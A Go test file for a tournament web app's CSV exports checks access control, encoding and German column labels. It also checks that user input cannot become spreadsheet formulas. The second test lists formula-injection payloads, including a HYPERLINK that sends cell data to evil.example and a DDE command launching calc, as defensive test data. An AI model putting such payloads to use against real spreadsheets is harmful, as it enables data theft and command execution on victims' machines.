package web

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"bummerl/cmd/bummerl/internal/web/webtest"
	"bummerl/domain/tournament"
)

// readCSV checks the BOM and reads a semicolon-separated export.
func readCSV(t *testing.T, r webtest.Response) [][]string {
	t.Helper()
	if r.Status != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv; charset=utf-8") {
		t.Fatalf("export: %d %q", r.Status, r.Header.Get("Content-Type"))
	}
	if !strings.HasPrefix(r.Body, "\ufeff") {
		t.Fatalf("no byte order mark: %q", r.Body[:min(10, len(r.Body))])
	}
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\ufeff")))
	cr.Comma = ';'
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// Issue 9: CSV exports of players, matches and standings, one click each
// from the overview, organisers only, UTF-8 with BOM for Excel.
func TestExports(t *testing.T) {
	f := newFixture(t, map[string]string{"cards": "8"}, 2, 1, 1, 1, 1, 1, 1)
	f.Org.Post(f.Path+"/players/1/edit", url.Values{"name": {"Jörg Müßig"}, "club": {"SV Mödling"}, "phone": {"0664 1"}})
	f.DrawDigital()
	var played []tournament.Match
	for _, m := range f.Load().Rounds[0].Matches {
		if !m.Bye() && !m.Surrendered {
			played = append(played, m)
		}
	}
	f.Quick(f.Helper, 1, played[0], played[0].B, "2:1")
	f.Quick(f.Helper, 1, played[1], played[1].A, "k")
	webtest.MustContain(t, f.Org.Get(f.Path).Body, `href="`+f.Path+`/export/players.csv"`, `data-testid="export-matches"`, `data-testid="export-standings"`)
	webtest.MustNotContain(t, f.Helper.Get(f.Path).Body, `data-testid="exports"`)
	for _, kind := range []string{"players", "matches", "standings"} {
		if r := f.Helper.Get(f.Path + "/export/" + kind + ".csv"); r.Status != http.StatusForbidden {
			t.Errorf("helper exports %s: %d", kind, r.Status)
		}
		if r := f.App.Client().Get(f.Path + "/export/" + kind + ".csv"); r.Status != http.StatusSeeOther {
			t.Errorf("anonymous exports %s: %d", kind, r.Status)
		}
	}
	r := f.Org.Get(f.Path + "/export/players.csv")
	if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="preisschnapsen-hinterbrühl-spieler.csv"` {
		t.Errorf("Content-Disposition %q", cd)
	}
	rows := readCSV(t, r)
	if strings.Join(rows[0], "|") != "Spieler-Nr.|Name|Verein|Telefon|Karten|Anzahl|Bezahlt|Zahlungsart" ||
		strings.Join(rows[1], "|") != "1|Jörg Müßig|SV Mödling|0664 1|1 2|2|25,00 €|bar" || len(rows) != 8 {
		t.Errorf("players %q", rows)
	}
	rows = readCSV(t, f.Org.Get(f.Path+"/export/matches.csv"))
	if len(rows) != 5 || rows[0][8] != "Stand" {
		t.Fatalf("matches %q", rows)
	}
	got := map[string][]string{}
	for _, row := range rows[1:] {
		got[row[2]] = row
	}
	m0, m1 := got[strconv.Itoa(played[0].No)], got[strconv.Itoa(played[1].No)]
	if m0[8] != "fertig" || m0[9] != strconv.Itoa(int(played[0].B)) || m0[11] != "2–1" || m0[12] != "nein" {
		t.Errorf("played match %q", m0)
	}
	if m1[8] != "kampflos" || m1[9] != strconv.Itoa(int(played[1].A)) || m1[11] != "" || m1[12] != "ja" {
		t.Errorf("walkover %q", m1)
	}
	rows = readCSV(t, f.Org.Get(f.Path+"/export/standings.csv"))
	if rows[0][0] != "Platz" || len(rows) != 9 {
		t.Errorf("standings %q", rows)
	}
	if r := f.Org.Get(f.Path + "/export/secrets.csv"); r.Status != http.StatusNotFound {
		t.Errorf("unknown export: %d", r.Status)
	}
	// The API, in English.
	r = f.API.API(http.MethodGet, "/api/tournaments/"+strconv.FormatInt(f.ID, 10)+"/export/matches.csv", f.Anna, nil)
	rows = readCSV(t, r)
	if rows[0][0] != "Round" || rows[0][12] != "walkover" {
		t.Errorf("API export %q", rows[0])
	}
}

// Issue 20: what people typed never becomes a formula in the organiser's
// spreadsheet. Names, clubs, phones, prize descriptions and a namesake's
// note starting with = + - @ are written with a leading apostrophe in
// every column of all three files; scores are "2–1", which Excel keeps as
// text (it reads "2:1" as the time 02:01).
func TestExportsNoFormulas(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1;"Klick")`, "+SUM(1;2)", "-2+3", "@SUM(A1:A9)",
		`=cmd|' /C calc'!A0`, "+43 664 1234567", "-Wein", "@Verein", "=1+1"}
	f := newFixture(t, map[string]string{"prize_1": hostile[4], "prize_2": hostile[6]})
	for i := range 7 {
		h := hostile[i%len(hostile)]
		r := f.Org.Post(f.Path+"/sale", url.Values{"name": {h + " " + strconv.Itoa(i)}, "club": {hostile[(i+1)%len(hostile)]},
			"phone": {hostile[(i+2)%len(hostile)]}, "count": {"1"}})
		if r.Status != http.StatusSeeOther {
			t.Fatalf("sell to %q: status %d\n%s", h, r.Status, r.Body)
		}
	}
	// A namesake of the first buyer, told apart by a hostile note.
	first := hostile[0] + " 0"
	if r := f.Org.Post(f.Path+"/sale", url.Values{"ask": {"1"}, "new_player": {"1"}, "name": {first}, "note": {"=2+2"}, "count": {"1"}}); r.Status != http.StatusSeeOther {
		t.Fatalf("namesake: status %d\n%s", r.Status, r.Body)
	}
	for round := 1; round <= 3; round++ {
		f.DrawDigital()
		f.FinishRound(round)
	}
	typed := map[string]bool{first + " (=2+2)": true}
	for _, p := range f.Load().Players {
		typed[p.Name], typed[p.Club], typed[p.Phone] = true, true, true
	}
	typed[hostile[4]], typed[hostile[6]] = true, true
	escaped := map[string]bool{}
	for _, kind := range []string{"players", "matches", "standings"} {
		rows := readCSV(t, f.Org.Get(f.Path+"/export/"+kind+".csv"))
		for i, row := range rows {
			for j, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s.csv row %d column %d: %q starts a formula", kind, i, j, cell)
				}
				if orig, ok := strings.CutPrefix(cell, "'"); ok {
					if !typed[orig] {
						t.Errorf("%s.csv row %d column %d: %q is not what was typed", kind, i, j, cell)
					}
					escaped[kind+" "+rows[0][j]] = true
				}
			}
			if kind == "matches" && i > 0 && row[11] != "2–0" {
				t.Errorf("matches.csv row %d: score %q, want 2–0", i, row[11])
			}
		}
	}
	// Every column with typed text had a hostile cell, and each was kept text.
	for _, col := range []string{"players Name", "players Verein", "players Telefon", "matches Name A", "matches Name B",
		"matches Sieger", "standings Name", "standings Verein", "standings Preis"} {
		if !escaped[col] {
			t.Errorf("%s: no cell kept as text; columns seen %v", col, escaped)
		}
	}
	for cell, want := range map[string]string{"\tx": "'\tx", "\r=1": "'\r=1", "Anna": "Anna", "": "", "1–2": "1–2", "'x": "'x"} {
		if got := spreadsheetText(cell); got != want {
			t.Errorf("spreadsheetText(%q) = %q, want %q", cell, got, want)
		}
	}
}
